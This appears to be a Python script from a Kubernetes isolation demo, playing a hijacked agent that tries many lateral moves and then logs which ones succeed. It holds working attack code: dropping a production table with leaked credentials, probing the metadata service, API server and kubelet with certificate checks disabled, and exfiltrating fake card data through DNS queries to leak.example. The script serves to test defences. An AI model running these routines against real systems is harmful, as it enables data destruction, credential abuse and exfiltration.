"""The demo's intruder: an agent that somebody took over. It does its work once, and tries whatever it can beside it.

What it knows comes from its environment, and somebody told it a lot: addresses, and the production database's
password. Each attempt is told in one line of JSON: `{"attempt": …, "worked": true or false, "how": …}`. Then it waits
to be ended.
"""

from __future__ import annotations

import http.client
import json
import os
import signal
import socket
import ssl
import struct
import threading
import time
import urllib.request
from collections.abc import Callable

import postgres  # type: ignore[import-not-found]  # beside this file in the image

SECONDS = 3.0
"""For one answer."""
PATIENCE = 30.0
"""For its own work: the network may take a moment to open what was granted."""
LOOT = b"cardholder 4111 1111 1111 1111"


def drop_the_table() -> str:
    """Drop production's orders."""
    login = f"{os.environ['DATABASE_USER']}:{os.environ['DATABASE_PASSWORD']}"
    url = f"postgresql://{login}@{os.environ['DATABASE']}"
    return str(postgres.run(url, "DROP TABLE orders", seconds=SECONDS))


def read_metadata() -> str:
    """Take the node's role from the metadata service."""
    with urllib.request.urlopen(os.environ["METADATA_URL"], timeout=SECONDS) as page:  # noqa: S310 - http, from the demo
        return f"it is {page.read().decode().strip()}"


def reach_tls(address: str) -> str:
    """Ask a server of Kubernetes' anything; any answer is one too many."""
    host, _, port = address.rpartition(":")
    unchecked = ssl._create_unverified_context()  # noqa: S323 - it is nobody's friend
    connection = http.client.HTTPSConnection(host, int(port), timeout=SECONDS, context=unchecked)
    connection.request("GET", "/version")
    return f"HTTP {connection.getresponse().status}"


def reach(address: str) -> str:
    """Connect to a port; to be refused there is to be there, too."""
    host, _, port = address.rpartition(":")
    try:
        socket.create_connection((host, int(port)), timeout=SECONDS).close()
    except ConnectionRefusedError:
        return "reached it; nobody listens there"
    return "connected"


def carry_data_out() -> str:
    """Ask a resolver for a name that is made of what was stolen."""
    labels = (LOOT.hex()[:60].encode(), b"leak", b"example")
    name = b"".join(bytes([len(label)]) + label for label in labels)
    query = struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + name + b"\0" + struct.pack("!2H", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(SECONDS / 3)
        s.connect((os.environ["RESOLVER"], 53))
        for last in (False, False, True):
            s.send(query)
            try:
                s.recv(512)
                break
            except TimeoutError:
                if last:
                    raise
    return f"asked {LOOT.hex()[:8]}….leak.example"


def do_its_work() -> str:
    """Call the one service that it was granted, by name."""
    until = time.monotonic() + PATIENCE
    while True:
        try:
            with urllib.request.urlopen(os.environ["SERVICE_URL"], timeout=SECONDS) as page:  # noqa: S310 - http
                return str(page.read().decode().strip())
        except OSError:
            if time.monotonic() > until:
                raise
            time.sleep(0.2)


ATTEMPTS: dict[str, Callable[[], str]] = {
    "drop the production table": drop_the_table,
    "read the metadata service": read_metadata,
    "reach the API server's Service": lambda: reach_tls(os.environ["API_SERVICE"]),
    "reach the API server's node": lambda: reach_tls(os.environ["API_SERVER"]),
    "reach the kubelet": lambda: reach_tls(os.environ["KUBELET"]),
    "reach a neighbour": lambda: reach(os.environ["NEIGHBOUR"]),
    "reach a pod of another namespace": lambda: reach(os.environ["STRANGER"]),
    "carry data out by DNS": carry_data_out,
    "call the service it was granted": do_its_work,
}


def outcome(attempt: Callable[[], str]) -> dict[str, object]:
    """Say how an attempt ended."""
    try:
        return {"worked": True, "how": attempt()}
    except (OSError, postgres.RefusedError, http.client.HTTPException) as error:
        reason = getattr(error, "reason", None) or error
        return {"worked": False, "how": str(reason) or type(reason).__name__}


def main() -> None:
    """Try everything at once, tell it, and wait for SIGTERM."""
    ended = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: ended.set())
    told: dict[str, dict[str, object]] = {}

    def run(name: str) -> None:
        told[name] = outcome(ATTEMPTS[name])

    threads = [threading.Thread(target=run, args=(name,)) for name in ATTEMPTS]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    for name in ATTEMPTS:
        print(json.dumps({"attempt": name, **told[name]}, ensure_ascii=False), flush=True)
    ended.wait()


if __name__ == "__main__":
    main()
